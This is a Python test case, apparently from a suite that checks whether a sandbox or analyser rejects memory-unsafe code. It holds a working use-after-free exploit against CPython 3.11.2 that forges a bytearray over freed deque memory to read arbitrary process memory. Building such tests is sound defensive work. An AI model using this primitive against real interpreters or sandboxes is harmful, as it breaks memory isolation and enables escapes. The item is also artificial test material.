# expect: reject memory
# line: 16
# why: round 68: a dataclass field bound to enum.DynamicClassAttribute(f, g) runs f in the generated __eq__; inside deque.index's compare of a tuple held without a reference, code that empties the deque frees it (gh-115243): raw memory under 3.11.2
import collections
import dataclasses
import enum

keep = []
forged = []
dq = collections.deque()
state = {"n": 0, "payload": b"", "fake": 0}
N = 25


def read_tag(self):
    state["n"] += 1
    if state["n"] == 1:
        dq.clear()
        keep.append(bytearray(state["payload"]))
    elif id(self) == state["fake"]:
        forged.append(self)
        return 2
    return 1


def write_tag(self, value):
    pass


@dataclasses.dataclass
class D:
    tag: int = enum.DynamicClassAttribute(read_tag, write_tag)


class Version:
    """an honest comparison elsewhere in the program: the memory rule's judgement is on"""
    def __init__(self, major):
        self.major = major

    def __lt__(self, other):
        return self.major < other.major


print(sorted([Version(2), Version(1)])[0].major)


def w8(v):
    return v.to_bytes(8, "little")


dq.append(tuple([D(1), 0] + [0] * (N - 2)))
fake = id(dq[0]) + 48
state["fake"] = fake
words = [0, 0, 0, 0, 0, 0, fake, 0, 1 << 40, id(D), 0, 0]
raw = b"".join([w8(x) for x in words])
state["payload"] = raw + bytes(232 - len(raw))
try:
    dq.index(tuple([D(1), D(1)] + [0] * (N - 2)))
except (RuntimeError, ValueError) as e:
    print(type(e).__name__, e)
print("getter runs:", state["n"], len(keep), len(forged))
B = keep[0]
B[64:120] = b"".join([w8(x) for x in [1 << 40, id(bytearray), 1 << 62, 1 << 62, 0, 0, 0]])
mem = forged[0]
print(type(mem).__name__, hex(len(mem)), "at", hex(id(mem)), "fake was", hex(fake))
probe = "freed-memory-probe"
print("read through it:", bytes(mem[id(probe) + 48:id(probe) + 48 + len(probe)]))
